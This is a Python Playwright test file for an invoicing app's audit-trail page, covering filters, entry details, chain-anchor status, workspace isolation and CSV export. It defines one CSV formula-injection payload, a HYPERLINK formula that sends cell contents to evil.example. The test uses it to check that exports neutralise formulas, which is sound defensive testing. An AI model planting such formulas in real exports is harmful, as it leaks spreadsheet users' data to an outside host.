"""The audit trail in the browser: filters narrow it, an entry shows what changed and links to
its entity, the chain's status is plain to see, and the CSV export is what the page lists."""

import csv
import io
import re
import uuid
from datetime import timedelta
from typing import Any

from playwright.async_api import Page, expect

from kasa_audit.app.chain_anchors import anchor_round
from kasa_localstack.testing import KasaClient, eventually
from kasa_servicekit.db import Database
from kasa_servicekit.events import EventWriter

PHONE = {"width": 360, "height": 780}
HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Details")'


async def trail_of(owner: KasaClient, count: int, **filters: str) -> list[dict[str, Any]]:
    """The owner's trail once audit has recorded at least ``count`` entries matching."""

    async def read() -> list[dict[str, Any]]:
        return await owner.all_items("/api/v1/audit-events", **filters)

    return await eventually(read, lambda items: len(items) >= count, what=f"{count} entries")


async def client_with_history(owner: KasaClient) -> tuple[dict[str, Any], str]:
    """A client created in a request whose id someone chose to start a formula, then renamed
    and given a new rate; the renaming request's correlation id."""
    created = await owner.post(
        "/api/v1/clients",
        json={"name": "Acme", "currency": "CZK", "hourly_rate": "1000", "language": "en"},
        headers={"X-Request-ID": HYPERLINK},
    )
    assert created.status_code == 201, created.text
    client = created.json()
    renaming = f"rename-{uuid.uuid4().hex[:8]}"
    changed = await owner.request(
        "PATCH",
        f"/api/v1/clients/{client['id']}",
        json={"name": "Acme s.r.o.", "hourly_rate": "1200"},
        headers={"X-Request-ID": renaming},
    )
    assert changed.status_code == 200, changed.text
    project = await owner.post("/api/v1/projects", json={"client_id": client["id"], "name": "Web"})
    assert project.status_code == 201, project.text
    await trail_of(owner, 2, entity_type="client")
    await trail_of(owner, 1, entity_type="project")
    return client, renaming


async def anchor_now(system: Any) -> None:
    """One anchoring round now, as audit's job runs it every few minutes."""
    db = Database(system.database_urls["audit"])
    try:
        await anchor_round(db, EventWriter("audit"), timedelta(hours=24))
    finally:
        await db.dispose()


async def light_and_dark(page: Page, web: Any, name: str) -> None:
    """axe and a screenshot in both modes; each test runs without motion, so axe never reads
    a colour halfway through one of Pico's transitions."""
    await web.assert_accessible(page)
    await web.shot(page, name)
    await page.emulate_media(color_scheme="dark")
    await web.assert_accessible(page)
    await web.shot(page, f"{name}-dark")
    await page.emulate_media(color_scheme="light")


async def test_filters_narrow_the_trail_and_an_entry_shows_what_changed(
    page: Page, web, system
) -> None:
    await page.emulate_media(reduced_motion="reduce")
    owner = await system.user()
    client, renaming = await client_with_history(owner)
    await web.sign_in_as(page, owner.user["email"])

    await page.get_by_role("link", name="Audit", exact=True).click()
    await expect(page.locator("h1")).to_have_text("Audit trail")
    rows = page.locator(".audit-table tbody tr")
    await expect(rows.first).to_be_visible()
    everything = await rows.count()
    assert everything >= 4, "registration, client created and changed, project created"
    chain = page.locator("#audit-chain")
    await expect(chain).to_contain_text("Intact")
    await light_and_dark(page, web, "audit-trail")

    # By entity: the client's two entries, newest first, and the URL keeps the filter.
    await page.locator("#f-entity_type").select_option("client")
    await expect(page).to_have_url(re.compile(r"entity_type=client"))
    await expect(rows).to_have_count(2)
    await expect(rows.nth(0)).to_contain_text("Client changed")
    await expect(rows.nth(0)).to_contain_text("2 fields")
    await expect(rows.nth(1)).to_contain_text("Client created")
    # By event type, typed and confirmed with Enter.
    await page.locator("#f-event_type").fill("invoicing.client.updated")
    await page.locator("#f-event_type").press("Enter")
    await expect(page).to_have_url(re.compile(r"event_type=invoicing.client.updated"))
    await expect(rows).to_have_count(1)
    # By who: the system made none of these.
    await page.locator("#f-actor").select_option("system")
    await expect(page.get_by_text("No entry matches these filters.")).to_be_visible()
    await page.locator("#f-actor").select_option(f"user:{owner.user['user_id']}")
    await expect(rows).to_have_count(1)
    # A reload keeps every filter.
    await page.reload()
    await expect(page.locator("#f-entity_type")).to_have_value("client")
    await expect(page.locator("#f-event_type")).to_have_value("invoicing.client.updated")
    await expect(rows).to_have_count(1)

    # The CSV link exports exactly what the page lists.
    export = page.locator("#audit-export")
    href = await export.get_attribute("href") or ""
    for part in ("entity_type=client", "event_type=invoicing.client.updated", "actor_type=user"):
        assert part in href, href
    answer = await page.request.get(href)
    assert answer.ok and answer.headers["content-type"].startswith("text/csv")
    exported = list(csv.DictReader(io.StringIO(await answer.text())))
    assert [r["event_type"] for r in exported] == ["invoicing.client.updated"]
    assert exported[0]["correlation_id"] == renaming
    # By time: nothing happened before 2000.
    await page.locator("#f-to").fill("2000-01-01")
    await page.locator("#f-to").dispatch_event("change")
    await expect(page.get_by_text("No entry matches these filters.")).to_be_visible()
    await page.get_by_role("link", name="Clear filters").first.click()
    await expect(page).to_have_url(re.compile(r"/audit$"))
    await expect(page.locator("#f-entity_type")).to_have_value("")

    # The entry: before and after of each field, side by side, and where it came from.
    await page.goto("/audit?entity_type=client&event_type=invoicing.client.updated")
    await rows.first.get_by_role("link", name="Client changed").click()
    await expect(page.locator("h1")).to_have_text("Client changed")
    changes = page.locator(".audit-changes tbody tr")
    name_row = changes.filter(has_text="name")
    await expect(name_row.locator(".audit-before")).to_have_text("Acme")
    await expect(name_row.locator(".audit-after")).to_have_text("Acme s.r.o.")
    rate_row = changes.filter(has_text="hourly_rate")
    await expect(rate_row.locator(".audit-before")).to_have_text(re.compile(r"^1000(\.00)?$"))
    await expect(rate_row.locator(".audit-after")).to_have_text(re.compile(r"^1200(\.00)?$"))
    facts = page.locator(".audit-facts")
    await expect(facts).to_contain_text("invoicing")
    await expect(facts).to_contain_text("Person")
    await expect(page.locator("#request-title + dl")).to_contain_text(renaming)
    position = page.locator(".audit-chain-facts").last
    await expect(position).to_contain_text(re.compile(r"[0-9a-f]{64}"))
    entry_url = page.url
    await light_and_dark(page, web, "audit-entry")
    await page.set_viewport_size(PHONE)
    await web.shot(page, "audit-entry-phone")
    await page.set_viewport_size({"width": 1280, "height": 900})

    # Its request: the trail of the same correlation id.
    await page.locator("#correlation-link").click()
    await expect(page).to_have_url(re.compile(f"correlation_id={renaming}"))
    await expect(rows).to_have_count(1)
    # Its entity: the client's own page.
    await page.goto(entry_url)
    await page.locator("#entity-link").click()
    await expect(page).to_have_url(re.compile(f"/clients/{client['id']}$"))
    await expect(page.locator("h1")).to_contain_text("Acme s.r.o.")

    # A correlation id chosen to start a formula is exported as text, never as a formula.
    await page.goto("/audit")
    await page.locator("#f-correlation_id").fill(HYPERLINK)
    await page.locator("#f-correlation_id").press("Enter")
    await expect(rows).to_have_count(1)
    await expect(rows.first).to_contain_text("Client created")
    href = await export.get_attribute("href") or ""
    assert "correlation_id=" in href
    cells = list(csv.DictReader(io.StringIO(await (await page.request.get(href)).text())))
    assert [c["correlation_id"] for c in cells] == ["'" + HYPERLINK]

    # The chain's last anchor, once audit has published one.
    await anchor_now(system)
    await page.goto("/audit")
    await expect(chain).to_contain_text("Last anchor")
    await expect(chain).to_contain_text(re.compile(r"entry \d+"))
    await expect(chain.locator("code")).to_have_text(re.compile(r"^[0-9a-f]{64}$"))
    await web.shot(page, "audit-trail-anchored")
    await page.set_viewport_size(PHONE)
    await web.shot(page, "audit-trail-phone")
    await page.emulate_media(color_scheme="dark")
    await web.shot(page, "audit-trail-phone-dark")
    await page.emulate_media(color_scheme="light")
    await page.set_viewport_size({"width": 1280, "height": 900})
    # Without script the status is a page of its own.
    await page.goto("/audit/chain")
    await expect(page.locator("h1")).to_have_text("Integrity of the trail")
    await light_and_dark(page, web, "audit-chain")


async def test_a_viewer_reads_the_trail_and_another_workspace_gets_the_404_page(
    page: Page, web, system
) -> None:
    await page.emulate_media(reduced_motion="reduce")
    owner = await system.user()
    await client_with_history(owner)
    viewer = await web.joined(system, owner, "viewer")
    [entry] = await trail_of(owner, 1, event_type="invoicing.client.updated")

    await web.sign_in_as(page, viewer.user["email"], str(owner.user["workspace_id"]))
    await expect(page.locator(".workspace-name")).to_have_text(
        f"Workspace of {owner.user['email']}"
    )
    await page.goto("/audit")
    await expect(page.locator(".audit-table tbody tr").first).to_be_visible()
    await expect(page.locator("#audit-chain")).to_contain_text("Intact")
    await expect(page.get_by_role("link", name="Workspace settings")).to_have_count(0)
    await expect(page.locator("main form[method='post']")).to_have_count(0)
    await page.goto(f"/audit/{entry['id']}")
    await expect(page.locator("h1")).to_have_text("Client changed")
    await expect(page.locator("main form[method='post']")).to_have_count(0)
    await web.assert_accessible(page)
    await web.sign_out(page)

    await web.sign_up(page, name="Petr Novák", workspace="Novák s.r.o.")
    response = await page.goto(f"/audit/{entry['id']}")
    assert response is not None and response.status == 404
    await expect(page.locator("h1")).to_have_text("Page not found")
    await web.assert_accessible(page)
    answer = await page.request.get(f"/api/v1/audit-events/{entry['id']}")
    assert answer.status == 404
